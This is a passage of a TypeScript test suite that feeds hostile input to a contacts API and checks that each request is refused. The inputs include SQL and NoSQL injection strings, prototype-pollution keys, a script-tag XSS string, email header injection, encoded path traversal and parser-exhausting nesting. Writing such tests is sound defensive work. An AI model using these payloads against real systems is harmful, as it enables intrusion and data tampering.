import { ClientStore } from '@app/auth';
import type { ContactView } from '@app/contacts';
import type { ContactPage } from '@app/projections';
import {
  aCreatedContact,
  aGuestPayload,
  aRole,
  aUserPayload,
  countContacts,
  countEvents,
  get,
  post,
  problemOf,
  readContact,
  uniqueEmail,
  type Body,
  type Response,
} from '../support/contact-requests.js';
import { until } from '../support/polling.js';
import { createTestApi, createTestApiWithToken, type TestApi } from '../support/test-api.js';

const MIB = 1024 * 1024;
const UNKNOWN_ID = '00000000-0000-4000-8000-000000000000';

/**
 * A refusal the corpus expects: the status, and where a field is at fault, the pointer of an
 * error naming it (a string is the exact pointer, a RegExp any pointer under a field).
 */
interface Refusal {
  status: number;
  pointer?: string | RegExp;
  code?: string;
}

type Case = [name: string, send: () => Promise<Response>, expected: Refusal];

const under = (pointer: string): RegExp => new RegExp(`^${pointer.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}(/|$)`);

describe('hostile input', () => {
  let api: TestApi;
  let token: string;
  /** the user every update in the corpus aims at; the corpus must leave it as it is */
  let target: ContactView;
  let reference: string;
  let readonlyToken: string;
  let allButPrivacyToken: string;
  let allButContactsToken: string;
  /** a token of the website that signs its users in (scope `signin`) */
  let signinToken: string;

  beforeAll(async () => {
    ({ api, token } = await createTestApiWithToken({ label: 'hostile' }));
    readonlyToken = await api.token(['contacts.readonly']);
    allButPrivacyToken = await api.token(['contacts', 'roles', 'audit']);
    allButContactsToken = await api.token(['roles', 'audit', 'privacy']);
    signinToken = await api.token(['signin']);
    reference = await aRole(api, token, 'none');
    target = await aCreatedContact(api, token, aUserPayload({ accessRoles: [reference], tags: { contact: ['vip'] } }));
  });
  afterAll(() => api.close());

  const raw = (
    method: 'GET' | 'POST' | 'DELETE',
    url: string,
    payload?: string | Buffer,
    contentType: string | null = 'application/json',
    bearer: string = token,
  ): Promise<Response> =>
    api.http.inject({
      method,
      url,
      headers: {
        authorization: `Bearer ${bearer}`,
        ...(contentType === null || payload === undefined ? {} : { 'content-type': contentType }),
      },
      ...(payload === undefined ? {} : { payload }),
    });

  /** The two routes that take a body; a create starts from a valid user, an update from nothing. */
  const routes = {
    create: {
      url: (): string => '/api/contacts.json',
      contact: (overrides: Body): Body => ({ ...aUserPayload(), ...overrides }),
    },
    update: {
      url: (): string => `/api/contacts/${target.id}.json`,
      contact: (overrides: Body): Body => overrides,
    },
  } as const;
  type Route = keyof typeof routes;
  const ROUTES: Route[] = ['create', 'update'];

  const sendRaw = (route: Route, payload: string | Buffer, contentType: string | null = 'application/json'): Promise<Response> =>
    raw('POST', routes[route].url(), payload, contentType);
  const sendBody = (route: Route, body: unknown): Promise<Response> => sendRaw(route, JSON.stringify(body));
  const sendContact = (route: Route, overrides: Body, extra: Body = {}): Promise<Response> =>
    sendBody(route, { contact: routes[route].contact(overrides), ...extra });
  /** A valid body of the route as JSON text, with `insert` spliced in as the first member of `contact`. */
  const withContactMember = (route: Route, insert: string): string =>
    JSON.stringify({ contact: routes[route].contact({ firstname: 'Ann' }) }).replace('{"contact":{', `{"contact":{${insert},`);
  const withTopMember = (route: Route, insert: string): string =>
    JSON.stringify({ contact: routes[route].contact({ firstname: 'Ann' }) }).replace(/^\{/, `{${insert},`);

  // ---- the corpus -------------------------------------------------------------------------

  const bodyCases = (route: Route): Case[] => {
    const cases: Case[] = [];
    const add = (name: string, send: () => Promise<Response>, expected: Refusal): void => {
      cases.push([`${route}: ${name}`, send, expected]);
    };
    const valid = (): string => JSON.stringify({ contact: routes[route].contact({ firstname: 'Ann' }) });

    // Malformed and truncated JSON.
    for (const [name, text] of [
      ['malformed JSON', '{"contact": {"type": "guest",'],
      ['a trailing comma', '{"contact": {"firstname": "Ann"},}'],
      ['single quotes', "{'contact': {'firstname': 'Ann'}}"],
      ['NaN', '{"contact": {"firstname": NaN}}'],
      ['a bare word', 'contact'],
      ['trailing garbage', '{"contact": {}} x'],
      ['two documents', '{"contact": {}}{"contact": {}}'],
      ['an empty body', ''],
      ['only whitespace', ' \n\t '],
      ['a lone {', '{'],
      ['a lone [', '['],
      ['an unterminated string', '{"contact": {"firstname": "Ann'],
      ['a bad escape', '{"contact": {"firstname": "\\x41"}}'],
      ['10,000 unclosed [', '['.repeat(10_000)],
    ] as const) {
      add(name, () => sendRaw(route, text), { status: 400 });
    }
    add('a valid body cut in half', () => sendRaw(route, valid().slice(0, Math.floor(valid().length / 2))), { status: 400 });
    add('a valid body less its last byte', () => sendRaw(route, valid().slice(0, -1)), { status: 400 });
    add(
      'invalid UTF-8 in a name of an incomplete contact',
      () =>
        sendRaw(
          route,
          Buffer.concat([Buffer.from('{"contact":{"email":"x","firstname":"'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}}')]),
        ),
      {
        // Bytes that are not UTF-8 decode to U+FFFD: an odd name, not a failure.
        status: 422,
        pointer: '/contact/email',
      },
    );

    // Wrong content types.
    for (const type of [
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/json-patch+json',
      'application/merge-patch+json',
      'application/jsonp',
      'application/xml',
      'json',
      '',
    ]) {
      add(`Content-Type ${JSON.stringify(type)}`, () => sendRaw(route, valid(), type), { status: 415 });
    }
    add('no Content-Type', () => sendRaw(route, valid(), null), { status: 415 });
    add('a form body as a form', () => sendRaw(route, 'contact[firstname]=Ann', 'application/x-www-form-urlencoded'), { status: 415 });
    add(
      'a multipart body',
      () =>
        sendRaw(route, '--x\r\nContent-Disposition: form-data; name="contact"\r\n\r\n{}\r\n--x--\r\n', 'multipart/form-data; boundary=x'),
      {
        status: 415,
      },
    );

    // Bodies over 1 MiB.
    add('a JSON body over 1 MiB', () => sendBody(route, { contact: routes[route].contact({ firstname: 'x'.repeat(MIB + 10) }) }), {
      status: 413,
    });
    add('garbage over 1 MiB', () => sendRaw(route, Buffer.alloc(MIB + 1, 0x7b)), { status: 413 });

    // Envelopes that are not an object.
    for (const [name, text] of [
      ['an array', '[]'],
      ['an array of a contact', '[{"contact":{"firstname":"Ann"}}]'],
      ['a string', '"contact"'],
      ['a number', '42'],
      ['null', 'null'],
      ['true', 'true'],
      ['false', 'false'],
      ['10,000 nested arrays', `${'['.repeat(10_000)}${']'.repeat(10_000)}`],
    ] as const) {
      add(`a body that is ${name}`, () => sendRaw(route, text), { status: 422, pointer: '', code: 'invalid_type' });
    }
    add('half a mebibyte of nested arrays', () => sendRaw(route, `${'['.repeat(500_000)}${']'.repeat(500_000)}`), { status: 422 });

    // `contact` of every wrong type.
    for (const [name, value] of [
      ['missing', undefined],
      ['null', null],
      ['a string', 'user'],
      ['an empty string', ''],
      ['a number', 1],
      ['a boolean', true],
      ['an array', []],
      ['an array of a contact', [routes[route].contact({ firstname: 'Ann' })]],
    ] as const) {
      add(`contact ${name}`, () => sendBody(route, { contact: value }), { status: 422, pointer: under('/contact') });
    }

    // Each field of the contact given each wrong type.
    const wrongForString: [string, unknown][] = [
      ['a number', 7],
      ['a boolean', true],
      ['an array', ['Ann']],
      ['an empty array', []],
      ['an object', { $ne: null }],
    ];
    for (const field of ['type', 'firstname', 'lastname', 'email', 'company', 'password']) {
      for (const [name, value] of wrongForString) {
        add(`${field} as ${name}`, () => sendContact(route, { [field]: value }), { status: 422, pointer: `/contact/${field}` });
      }
    }
    for (const field of ['firstname', 'lastname', 'company', 'line1', 'line2', 'line3', 'city', 'region', 'countryCode', 'zip']) {
      for (const [name, value] of wrongForString) {
        add(`address.${field} as ${name}`, () => sendContact(route, { address: { line1: 'x', [field]: value } }), {
          status: 422,
          pointer: `/contact/address/${field}`,
        });
      }
    }
    for (const [name, value] of [
      ['a string', '2 Sorrel Horse Mews'],
      ['a number', 7],
      ['a boolean', true],
      ['an array', [{ line1: 'x' }]],
    ] as const) {
      add(`address as ${name}`, () => sendContact(route, { address: value }), { status: 422, pointer: under('/contact/address') });
    }
    for (const [name, value] of [
      ['a string', 'customer'],
      ['a number', 7],
      ['a boolean', true],
      ['an object', { reference: 'x' }],
    ] as const) {
      add(`accessRoles as ${name}`, () => sendContact(route, { accessRoles: value }), {
        status: 422,
        pointer: under('/contact/accessRoles'),
      });
    }
    for (const [name, value, pointer] of [
      ['a number', 7, '/contact/accessRoles/0'],
      ['a boolean', true, '/contact/accessRoles/0'],
      ['null', null, '/contact/accessRoles/0'],
      ['an array', ['x'], '/contact/accessRoles/0'],
      ['an empty object', {}, '/contact/accessRoles/0/reference'],
      ['a numeric reference', { reference: 7 }, '/contact/accessRoles/0/reference'],
      ['a null reference', { reference: null }, '/contact/accessRoles/0/reference'],
      ['an array reference', { reference: ['customer'] }, '/contact/accessRoles/0/reference'],
      ['an object reference', { reference: { $ne: null } }, '/contact/accessRoles/0/reference'],
      ['a numeric expiry', { reference: 'x', expires: 1 }, '/contact/accessRoles/0/expires'],
      ['an array expiry', { reference: 'x', expires: [] }, '/contact/accessRoles/0/expires'],
      ['a boolean status', { reference: 'x', status: true }, '/contact/accessRoles/0/status'],
      ['an unknown status', { reference: 'x', status: 'granted' }, '/contact/accessRoles/0/status'],
      ['an unknown key', { reference: 'x', admin: true }, '/contact/accessRoles/0/admin'],
    ] as const) {
      add(`an accessRoles item as ${name}`, () => sendContact(route, { accessRoles: [value] }), { status: 422, pointer: under(pointer) });
    }
    for (const [name, value] of [
      ['a string', 'vip'],
      ['a number', 7],
      ['a boolean', true],
      ['an array', ['vip']],
      ['an empty object', {}],
      ['contact as a string', { contact: 'vip' }],
      ['contact as a number', { contact: 7 }],
      ['contact as an object', { contact: { 0: 'vip' } }],
      ['contact as null', { contact: null }],
      ['a number in the list', { contact: [7] }],
      ['null in the list', { contact: [null] }],
      ['an array in the list', { contact: [['vip']] }],
      ['an object in the list', { contact: [{ tag: 'vip' }] }],
      ['another property', { contact: [], other: [] }],
      ['another property only', { product: ['vip'] }],
    ] as const) {
      add(`tags as ${name}`, () => sendContact(route, { tags: value }), { status: 422, pointer: under('/contact/tags') });
    }
    for (const [name, value] of [
      ['a string', 'true'],
      ['a number', 1],
      ['an array', [true]],
      ['an object', {}],
    ] as const) {
      add(`invite as ${name}`, () => sendContact(route, {}, { invite: value }), { status: 422, pointer: '/invite' });
    }
    add('an unknown top-level member', () => sendContact(route, {}, { admin: true }), {
      status: 422,
      pointer: '/admin',
      code: 'unknown_field',
    });
    add('an unknown contact member', () => sendContact(route, { role: 'admin' }), {
      status: 422,
      pointer: '/contact/role',
      code: 'unknown_field',
    });

    // Invalid emails.
    for (const email of [
      'plain',
      'a@',
      '@example.com',
      'a@b',
      'two words@example.com',
      'a@exa mple.com',
      'a@@example.com',
      'a@example..com',
      '.a@example.com',
      'a@-example.com',
      'Bob <bob@example.com>',
      '<bob@example.com>',
      'bob@example.com\r\nBcc: eve@example.com',
      'bob@example.com,eve@example.com',
      'bob@[127.0.0.1]',
      "x' OR '1'='1",
    ]) {
      add(`the email ${JSON.stringify(email)}`, () => sendContact(route, { email }), { status: 422, pointer: '/contact/email' });
    }

    // Over-long strings and arrays.
    const long = 'x'.repeat(10_000);
    for (const field of ['firstname', 'lastname', 'password']) {
      add(`a ${field} of 10k characters`, () => sendContact(route, { [field]: long }), { status: 422, pointer: `/contact/${field}` });
    }
    add('a company of 10k characters', () => sendContact(route, { company: long }), {
      status: 422,
      pointer: '/contact/company',
      code: 'too_long',
    });
    add('a company of 10k + 1 characters', () => sendContact(route, { company: `${long}x` }), {
      status: 422,
      pointer: '/contact/company',
      code: 'too_long',
    });
    add('an email of 10k characters', () => sendContact(route, { email: `${long}@example.com` }), {
      status: 422,
      pointer: '/contact/email',
    });
    add('an email with a 10k domain', () => sendContact(route, { email: `a@${'x'.repeat(9_990)}.com` }), {
      status: 422,
      pointer: '/contact/email',
    });
    for (const field of ['firstname', 'lastname', 'company', 'line1', 'line2', 'line3', 'city', 'region', 'countryCode', 'zip']) {
      add(`address.${field} of 10k characters`, () => sendContact(route, { address: { [field]: long } }), {
        status: 422,
        pointer: `/contact/address/${field}`,
      });
    }
    add('a tag of 10k characters', () => sendContact(route, { tags: { contact: ['vip', long] } }), {
      status: 422,
      pointer: under('/contact/tags'),
    });
    add('10k tags', () => sendContact(route, { tags: { contact: Array.from({ length: 10_000 }, (_, i) => `t${i}`) } }), {
      status: 422,
      pointer: under('/contact/tags'),
    });
    add('1000 access roles', () => sendContact(route, { accessRoles: Array.from({ length: 1_000 }, () => 'customer') }), {
      status: 422,
      pointer: '/contact/accessRoles',
    });
    add('an access role reference of 10k characters', () => sendContact(route, { accessRoles: [long] }), {
      status: 422,
      pointer: under('/contact/accessRoles/0'),
    });
    add('an expiry of 10k characters', () => sendContact(route, { accessRoles: [{ reference: 'customer', expires: long }] }), {
      status: 422,
      pointer: '/contact/accessRoles/0/expires',
    });

    // NUL bytes and lone surrogates, in values and in keys.
    for (const [name, bad] of [
      ['a NUL byte', 'An\u0000n'],
      ['a lone high surrogate', '\ud800'],
      ['a lone low surrogate', 'x\udc00'],
      ['two high surrogates', '\ud800\ud800'],
    ] as const) {
      const at: [string, Body, string][] = [
        ['firstname', { firstname: bad }, '/contact/firstname'],
        ['lastname', { lastname: bad }, '/contact/lastname'],
        ['email', { email: `a${bad}@example.com` }, '/contact/email'],
        ['company', { company: bad }, '/contact/company'],
        ['password', { password: `secret123${bad}` }, '/contact/password'],
        ['type', { type: bad }, '/contact/type'],
        ['address.line1', { address: { line1: bad } }, '/contact/address/line1'],
        ['a tag', { tags: { contact: ['vip', bad] } }, '/contact/tags/contact/1'],
        ['an access role string', { accessRoles: [bad] }, '/contact/accessRoles/0'],
        ['an access role reference', { accessRoles: [{ reference: bad }] }, '/contact/accessRoles/0/reference'],
        ['a contact key', { [`first${bad}name`]: 'Ann' }, `/contact/first${bad}name`],
        ['an address key', { address: { [`line${bad}`]: 'x' } }, `/contact/address/line${bad}`],
      ];
      for (const [where, overrides, pointer] of at) {
        add(`${name} in ${where}`, () => sendContact(route, overrides), { status: 422, pointer, code: 'invalid_characters' });
      }
      add(`${name} in a top-level key`, () => sendContact(route, {}, { [`x${bad}`]: 1 }), {
        status: 422,
        pointer: `/x${bad}`,
        code: 'invalid_characters',
      });
    }
    add('an escaped NUL in raw JSON', () => sendRaw(route, withContactMember(route, '"company":"Acme\\u0000"')), {
      status: 422,
      pointer: '/contact/company',
      code: 'invalid_characters',
    });

    // Deep nesting.
    add('10,000 nested arrays in contact', () => sendRaw(route, `{"contact":${'['.repeat(10_000)}${']'.repeat(10_000)}}`), {
      status: 422,
      pointer: under('/contact'),
    });
    add(
      '10,000 nested objects in the address',
      () => sendRaw(route, withContactMember(route, `"address":${'{"a":'.repeat(10_000)}1${'}'.repeat(10_000)}`)),
      {
        status: 422,
        pointer: under('/contact/address'),
      },
    );
    add(
      '10,000 nested arrays in the tags',
      () => sendRaw(route, withContactMember(route, `"tags":{"contact":${'['.repeat(10_000)}${']'.repeat(10_000)}}`)),
      {
        status: 422,
        pointer: under('/contact/tags'),
      },
    );

    // __proto__, constructor and prototype keys.
    add('a top-level __proto__', () => sendRaw(route, withTopMember(route, '"__proto__":{"admin":true}')), { status: 400 });
    add('a __proto__ in contact', () => sendRaw(route, withContactMember(route, '"__proto__":{"type":"user"}')), { status: 400 });
    add('a __proto__ in the address', () => sendRaw(route, withContactMember(route, '"address":{"__proto__":{"line1":"x"}}')), {
      status: 400,
    });
    add(
      'a __proto__ in an access role',
      () => sendRaw(route, withContactMember(route, '"accessRoles":[{"__proto__":{"reference":"x"}}]')),
      { status: 400 },
    );
    add('a top-level constructor.prototype', () => sendRaw(route, withTopMember(route, '"constructor":{"prototype":{"admin":true}}')), {
      status: 400,
    });
    add(
      'a constructor.prototype in the tags',
      () => sendRaw(route, withContactMember(route, '"tags":{"contact":[],"constructor":{"prototype":{}}}')),
      {
        status: 400,
      },
    );
    add('a top-level constructor', () => sendRaw(route, withTopMember(route, '"constructor":{"name":"x"}')), {
      status: 422,
      pointer: '/constructor',
    });
    add('a constructor in contact', () => sendRaw(route, withContactMember(route, '"constructor":"x"')), {
      status: 422,
      pointer: '/contact/constructor',
    });
    add('a constructor in the address', () => sendRaw(route, withContactMember(route, '"address":{"line1":"x","constructor":1}')), {
      status: 422,
      pointer: '/contact/address/constructor',
    });
    add('a constructor in the tags', () => sendRaw(route, withContactMember(route, '"tags":{"contact":[],"constructor":1}')), {
      status: 422,
      pointer: '/contact/tags/constructor',
    });
    add('a top-level prototype', () => sendRaw(route, withTopMember(route, '"prototype":{"admin":true}')), {
      status: 422,
      pointer: '/prototype',
    });
    add('a prototype in contact', () => sendRaw(route, withContactMember(route, '"prototype":{"type":"user"}')), {
      status: 422,
      pointer: '/contact/prototype',
    });
    add('a hasOwnProperty in contact', () => sendRaw(route, withContactMember(route, '"hasOwnProperty":1')), {
      status: 422,
      pointer: '/contact/hasOwnProperty',
    });
    add('a toString in contact', () => sendRaw(route, withContactMember(route, '"toString":"x"')), {
      status: 422,
      pointer: '/contact/toString',
    });

    // HTML in the company is refused by rule, wherever a company is.
    add('a script in the company', () => sendContact(route, { company: '<script>alert(1)</script>' }), {
      status: 422,
      pointer: '/contact/company',
      code: 'html_not_allowed',
    });
    add('a script in the address company', () => sendContact(route, { address: { company: '<script>alert(1)</script>' } }), {
      status: 422,
      pointer: '/contact/address/company',
      code: 'html_not_allowed',
    });
    return cases;
  };

  const idCases = (): Case[] => {
    // Fastify refuses a path it cannot decode (400) or a parameter over its length limit (414)
    // before Nest runs; these too are problem documents.
    const badUrl: Refusal = { status: 400 };
    const tooLong: Refusal = { status: 414 };
    const ids: [string, Refusal][] = [
      ['..', { status: 404 }],
      ['...json', { status: 404 }],
      ['%2e%2e.json', { status: 404 }],
      ['%2e%2e%2fcontacts.json', { status: 404 }],
      ['%00', { status: 404 }],
      ['%00.json', { status: 404 }],
      [`${UNKNOWN_ID}%00.json`, { status: 404 }],
      ['%ED%A0%80.json', badUrl],
      ['%C0%AE%C0%AE.json', badUrl],
      ['%.json', badUrl],
      [`${'a'.repeat(10_000)}.json`, tooLong],
      [`${UNKNOWN_ID.repeat(100)}.json`, tooLong],
      ["1'%20OR%20'1'%3D'1.json", { status: 404 }],
      ['1%3B%20DROP%20TABLE%20contacts%3B%20--.json', { status: 404 }],
      [`${UNKNOWN_ID}'%20OR%201%3D1%20--.json`, { status: 404 }],
      [`${UNKNOWN_ID}.json.json`, { status: 404 }],
      [`${UNKNOWN_ID.replace(/-/g, '')}.json`, { status: 404 }],
      [`{${UNKNOWN_ID}}.json`, { status: 404 }],
      [`${UNKNOWN_ID}.json`, { status: 404 }],
      ['null.json', { status: 404 }],
      ['undefined.json', { status: 404 }],
      ['__proto__.json', { status: 404 }],
      ['constructor.json', { status: 404 }],
    ];
    return ids.flatMap(([id, expected]): Case[] => [
      [`GET the contact id ${JSON.stringify(id.slice(0, 60))}`, () => raw('GET', `/api/contacts/${id}`), expected],
      [
        `POST the contact id ${JSON.stringify(id.slice(0, 60))}`,
        () => raw('POST', `/api/contacts/${id}`, JSON.stringify({ contact: { firstname: 'Ann' } })),
        expected,
      ],
      [`DELETE the contact id ${JSON.stringify(id.slice(0, 60))}`, () => raw('DELETE', `/api/contacts/${id}`), expected],
      // The export's id sits inside the path: the same ids without their `.json`.
      [
        `GET the export of the contact id ${JSON.stringify(id.slice(0, 60))}`,
        () => raw('GET', `/api/contacts/${id.replace(/\.json$/, '')}/export.json`),
        expected,
      ],
    ]);
  };

  /** DELETE takes no body: one sent is refused whatever it holds, and the contact stays. */
  const deleteBodyCases = (): Case[] => {
    const url = (): string => `/api/contacts/${target.id}.json`;
    const bodyNotAllowed: Refusal = { status: 400, pointer: '', code: 'body_not_allowed' };
    const bodies: [string, string | Buffer, string, Refusal][] = [
      ['an empty object', '{}', 'application/json', bodyNotAllowed],
      ['a contact', JSON.stringify({ contact: { email: uniqueEmail('x') } }), 'application/json', bodyNotAllowed],
      ['an erase request', JSON.stringify({ reason: 'asked to be forgotten' }), 'application/json', bodyNotAllowed],
      ['null', 'null', 'application/json', bodyNotAllowed],
      ['an array', '[1,2,3]', 'application/json', bodyNotAllowed],
      ['malformed JSON', '{"contact":', 'application/json', { status: 400 }],
      ['a __proto__ key', '{"__proto__":{"admin":true}}', 'application/json', { status: 400 }],
      ['plain text', 'delete it', 'text/plain', bodyNotAllowed],
      ['XML', '<contact/>', 'application/xml', { status: 415 }],
      ['a form', 'id=1', 'application/x-www-form-urlencoded', bodyNotAllowed],
      ['over 1 MiB of JSON', JSON.stringify({ pad: 'x'.repeat(MIB) }), 'application/json', { status: 413 }],
    ];
    return bodies.map(([name, payload, contentType, expected]): Case => [
      `DELETE with ${name} as its body`,
      () => raw('DELETE', url(), payload, contentType),
      expected,
    ]);
  };

  /** `POST /api/contacts/{id}/erase.json`: `{reason}`, a string of 1 to 500 characters; the target is never erased. */
  const eraseCases = (): Case[] => {
    const url = (): string => `/api/contacts/${target.id}/erase.json`;
    const atReason: Refusal = { status: 422, pointer: '/reason' };
    const bodies: [string, string | Buffer, string | null, Refusal][] = [
      ['no body', '', null, { status: 422 }],
      ['an empty object', '{}', 'application/json', atReason],
      ['an empty reason', '{"reason":""}', 'application/json', atReason],
      ['a reason of 501 characters', JSON.stringify({ reason: 'x'.repeat(501) }), 'application/json', atReason],
      ['a numeric reason', '{"reason":17}', 'application/json', atReason],
      ['a null reason', '{"reason":null}', 'application/json', atReason],
      ['a reason as a list', '{"reason":["a"]}', 'application/json', atReason],
      ['a reason as an object', '{"reason":{"toString":"x"}}', 'application/json', { status: 422, pointer: /^\/reason/ }],
      ['null', 'null', 'application/json', { status: 422 }],
      ['an array', '[1,2,3]', 'application/json', { status: 422 }],
      ['malformed JSON', '{"reason":', 'application/json', { status: 400 }],
      ['a __proto__ key', '{"__proto__":{"reason":"x"}}', 'application/json', { status: 400 }],
      ['XML', '<reason>x</reason>', 'application/xml', { status: 415 }],
      ['over 1 MiB of JSON', JSON.stringify({ reason: 'x'.repeat(MIB) }), 'application/json', { status: 413 }],
    ];
    const forbidden: Refusal = { status: 403 };
    const eraseAs = (bearer: () => string) => () => raw('POST', url(), JSON.stringify({ reason: 'asked' }), 'application/json', bearer());
    return [
      ...bodies.map(([name, payload, contentType, expected]): Case => [
        `erase with ${name}`,
        () => raw('POST', url(), payload === '' ? undefined : payload, contentType),
        expected,
      ]),
      ['erase an id that is not a UUID', () => raw('POST', '/api/contacts/not-a-uuid/erase.json', '{"reason":"x"}'), { status: 404 }],
      [
        'erase an unknown id',
        () => raw('POST', '/api/contacts/00000000-0000-4000-8000-000000000000/erase.json', '{"reason":"x"}'),
        { status: 404 },
      ],
      ['erase with only contacts.readonly', eraseAs(() => readonlyToken), forbidden],
      ['erase with contacts, roles and audit', eraseAs(() => allButPrivacyToken), forbidden],
    ];
  };

  /** Deleting needs `contacts`; exporting needs `privacy`, which no other scope includes. */
  const scopeCases = (): Case[] => {
    const forbidden: Refusal = { status: 403 };
    const remove = (bearer: () => string) => () => raw('DELETE', `/api/contacts/${target.id}.json`, undefined, null, bearer());
    const exportIt = (bearer: () => string) => () => raw('GET', `/api/contacts/${target.id}/export.json`, undefined, null, bearer());
    return [
      ['DELETE with only contacts.readonly', remove(() => readonlyToken), forbidden],
      ['DELETE with only roles, audit and privacy', remove(() => allButContactsToken), forbidden],
      ['GET the export with only contacts.readonly', exportIt(() => readonlyToken), forbidden],
      ['GET the export with contacts, roles and audit', exportIt(() => allButPrivacyToken), forbidden],
    ];
  };

  /** `POST /api/contacts/authenticate.json`: `{email, password}`, both strings, nothing else. */
  const signinCases = (): Case[] => {
    const send = (payload: string | Buffer, contentType: string | null = 'application/json'): Promise<Response> =>
      api.http.inject({
        method: 'POST',
        url: '/api/contacts/authenticate.json',
        headers: { authorization: `Bearer ${signinToken}`, ...(contentType === null ? {} : { 'content-type': contentType }) },
        payload,
      });
    /** Stands for the email of the user every update aims at, which exists only once the tests run. */
    const TARGET = 'the-target-user@example.invalid';
    const body =
      (value: unknown): (() => Promise<Response>) =>
      () =>
        send(JSON.stringify(value).replaceAll(TARGET, target.email));
    const valid = (): string => JSON.stringify({ email: target.email, password: 'secret123' });
    const cases: [string, () => Promise<Response>, Refusal][] = [];
    const add = (name: string, sendIt: () => Promise<Response>, expected: Refusal): void => {
      cases.push([`sign-in: ${name}`, sendIt, expected]);
    };

    for (const [name, text] of [
      ['malformed JSON', '{"email": "a@example.com",'],
      ['single quotes', "{'email': 'a@example.com', 'password': 'x'}"],
      ['an empty body', ''],
      ['two documents', '{"email":"a"}{"password":"b"}'],
      ['10,000 unclosed [', '['.repeat(10_000)],
    ] as const) {
      add(name, () => send(text), { status: 400 });
    }
    add('a valid body cut in half', () => send(valid().slice(0, Math.floor(valid().length / 2))), { status: 400 });
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/xml', '']) {
      add(`Content-Type ${JSON.stringify(type)}`, () => send(valid(), type), { status: 415 });
    }
    add(
      'a form body as a form',
      () => send(`email=${encodeURIComponent(target.email)}&password=secret123`, 'application/x-www-form-urlencoded'),
      {
        status: 415,
      },
    );
    add('no Content-Type', () => send(valid(), null), { status: 415 });
    add('a password over 1 MiB', body({ email: TARGET, password: 'x'.repeat(MIB + 10) }), { status: 413 });
    for (const [name, text] of [
      ['an array', '[]'],
      ['a string', '"a@example.com"'],
      ['a number', '42'],
      ['null', 'null'],
      ['an array of a body', '[{"email":"a@example.com","password":"secret123"}]'],
    ] as const) {
      add(`a body that is ${name}`, () => send(text), { status: 422, pointer: '', code: 'invalid_type' });
    }
    const wrongForString: [string, unknown][] = [
      ['a number', 7],
      ['a boolean', true],
      ['null', null],
      ['an array', ['secret123']],
      ['an empty array', []],
      ['an object', { $ne: null }],
      ['an object with a regex', { $regex: '.*' }],
    ];
    for (const field of ['email', 'password']) {
      for (const [name, value] of wrongForString) {
        add(`${field} as ${name}`, body({ email: TARGET, password: 'secret123', [field]: value }), {
          status: 422,
          pointer: `/${field}`,
        });
      }
      add(`no ${field}`, body(field === 'email' ? { password: 'secret123' } : { email: TARGET }), {
        status: 422,
        pointer: `/${field}`,
        code: 'required',
      });
    }
    add('a NUL in the email', body({ email: `${TARGET}\u0000`, password: 'secret123' }), {
      status: 422,
      pointer: '/email',
      code: 'invalid_characters',
    });
    add('an unpaired surrogate in the password', body({ email: TARGET, password: 'secret123\ud800' }), {
      status: 422,
      pointer: '/password',
      code: 'invalid_characters',
    });
    add('an email of 100,000 characters', body({ email: `${'a'.repeat(100_000)}@example.com`, password: 'secret123' }), {
      status: 422,
      pointer: '/email',
      code: 'too_long',
    });
    add('a password of 100,000 characters', body({ email: TARGET, password: 'x'.repeat(100_000) }), {
      status: 422,
      pointer: '/password',
      code: 'too_long',
    });
    add('an unknown field', body({ email: TARGET, password: 'secret123', admin: true }), {
      status: 422,
      pointer: '/admin',
      code: 'unknown_field',
    });
    add('the email inside contact', body({ contact: { email: TARGET, password: 'secret123' } }), { status: 422, pointer: '/email' });
    add('a __proto__ member', () => send(valid().replace(/^\{/, '{"__proto__":{"admin":true},')), { status: 400 });
    // Strings that look like queries are an email nobody has: the same 401 as any failure.
    for (const email of ["' OR '1'='1", `${"' OR 1=1 --"}@example.com`, '*', '%', '{"$ne":null}', 'a@example.com\nBcc: b@example.com']) {
      add(`the email ${JSON.stringify(email)}`, body({ email, password: "' OR '1'='1" }), {
        status: 401,
        pointer: '',
        code: 'invalid_credentials',
      });
    }
    add('the right email with an injected password', body({ email: TARGET, password: "' OR '1'='1" }), {
      status: 401,
      code: 'invalid_credentials',
    });
    return cases;
  };

  const queryCases = (): Case[] => {
    const list =
      (query: string): (() => Promise<Response>) =>
      () =>
        raw('GET', `/api/contacts.json?${query}`);
    const cases: [string, Refusal][] = [
      ['page=0', { status: 422, pointer: '/query/page', code: 'invalid_page' }],
      ['page=-1', { status: 422, pointer: '/query/page', code: 'invalid_page' }],
      ['page=1e9', { status: 422, pointer: '/query/page', code: 'invalid_page' }],
      ['page=1000000001', { status: 422, pointer: '/query/page', code: 'invalid_page' }],
      ['page=99999999999999999999999', { status: 422, pointer: '/query/page', code: 'invalid_page' }],
      ['page=abc', { status: 422, pointer: '/query/page', code: 'invalid_page' }],
      ['page=', { status: 422, pointer: '/query/page', code: 'invalid_page' }],
      ['page=1.5', { status: 422, pointer: '/query/page', code: 'invalid_page' }],
      ['page=0x10', { status: 422, pointer: '/query/page', code: 'invalid_page' }],
      ['page=%201', { status: 422, pointer: '/query/page', code: 'invalid_page' }],
      ['page=Infinity', { status: 422, pointer: '/query/page', code: 'invalid_page' }],
      ['page=1&page=2', { status: 422, pointer: '/query/page', code: 'invalid_page' }],
      ['page[]=1', { status: 422, pointer: '/query/page[]' }],
      ['page[$gt]=1', { status: 422, pointer: '/query/page[$gt]' }],
      ['limit=0', { status: 422, pointer: '/query/limit', code: 'invalid_limit' }],
      ['limit=-1', { status: 422, pointer: '/query/limit', code: 'invalid_limit' }],
      ['limit=101', { status: 422, pointer: '/query/limit', code: 'invalid_limit' }],
      ['limit=1e9', { status: 422, pointer: '/query/limit', code: 'invalid_limit' }],
      ['limit=abc', { status: 422, pointer: '/query/limit', code: 'invalid_limit' }],
      ['limit=1&limit=100', { status: 422, pointer: '/query/limit', code: 'invalid_limit' }],
      ['email=not-an-email', { status: 422, pointer: '/query/email' }],
      ['email=a%40b.com&email=c%40d.com', { status: 422, pointer: '/query/email' }],
      [`email=${encodeURIComponent("x' OR '1'='1")}`, { status: 422, pointer: '/query/email' }],
      [`email=${'a'.repeat(300)}%40example.com`, { status: 422, pointer: '/query/email' }],
      ['type=hq', { status: 422, pointer: '/query/type', code: 'type_not_allowed' }],
      ['type=user&type=guest', { status: 422, pointer: '/query/type' }],
